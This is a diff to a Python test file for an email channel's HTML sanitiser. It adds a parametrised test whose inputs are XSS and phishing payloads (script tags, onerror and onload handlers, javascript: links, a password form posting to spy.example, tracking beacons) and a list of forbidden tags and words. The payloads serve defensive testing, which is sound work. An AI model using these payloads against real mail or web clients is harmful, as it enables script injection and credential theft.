@@ -3,7 +3,8 @@
 import pytest
 from tests.channels.email.mails import MEI, SUPPORT, arrive, letter, signed
 
-from octant.channels.email.models import Arrival, Outgoing
+from octant.channels.email.models import Arrival, Letter, Outgoing
+from octant.channels.email.originals import formatted
 from octant.core.exchange.proof import Assured
 from octant.core.exchange.selectors import exchange
 from octant.core.people.models import Customer, User
@@ -171,6 +172,31 @@ def test_attack_08_an_automatic_mail_says_so_and_asks_for_silence(customer_user:
     mail = read_mail(raw)
     assert mail.auto.auto_submitted == "auto-replied"
     assert mail.auto.forbids_answers
+
+
+@pytest.mark.parametrize(
+    "evil",
+    [
+        "<script>alert(1)</script>",
+        '<img src="https://spy.example/x.gif" onerror="alert(1)" width="1" height="1">',
+        '<a href="javascript:alert(1)">x</a><a href="https://kraken-login.example/">sign in</a>',
+        "<svg/onload=alert(1)><math><mtext><style><img src=x onerror=alert(1)></style></mtext>",
+        '<form action="https://spy.example/"><input name="password"></form>',
+        '<p style="background:url(https://spy.example/)">x</p><base href="//spy.example/">',
+        '<iframe srcdoc="<script>alert(1)</script>"></iframe><meta http-equiv=refresh content=0>',
+    ],
+)
+def test_attack_09_a_mails_html_runs_loads_and_asks_nothing(customer_user: User, evil: str) -> None:
+    """In the formatted view that agents open; beside it the text is text."""
+    arrive(letter("Please look.", html=f"<p>Please <b>look</b>.</p>{evil}"))
+    found = Letter.objects.get()
+    shown = str(formatted(found).html).lower()
+    assert "look" in shown
+    tags = ("script", "form", "input", "iframe", "svg", "style", "base", "meta")
+    words = ("onerror", "onload", "javascript:", "spy.example", 'href="http', "url(")
+    for never in (*(f"<{tag}" for tag in tags), *words):
+        assert never not in shown
+    assert "<" not in found.message.text
 
 
 def test_attack_10_names_and_subjects_stay_text(customer_user: User) -> None:
